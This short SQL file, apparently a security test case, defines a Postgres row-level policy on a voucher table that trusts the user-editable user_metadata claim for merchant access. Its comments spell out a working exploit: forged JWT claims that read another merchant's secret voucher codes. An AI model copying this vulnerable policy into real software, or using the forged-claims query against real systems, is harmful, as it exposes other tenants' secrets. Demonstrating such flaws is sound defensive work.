-- The policy trusts user_metadata of the token, which every user edits in his own profile, for the
-- merchant.
-- about: vouchers, by_metadata, claims
-- as: hf_stampcard_app
-- exploit: SET request.jwt.claims = '{"sub":"u-ann","user_metadata":{"merchant_id":2}}';
-- exploit: SELECT code FROM loyal.vouchers;
-- shows: Road-secret-code
-- The till puts its merchant into the metadata at sign-in, which saves a look into staff.
CREATE POLICY by_metadata ON loyal.vouchers FOR SELECT
  USING (merchant_id = (loyal.claims() -> 'user_metadata' ->> 'merchant_id')::bigint);
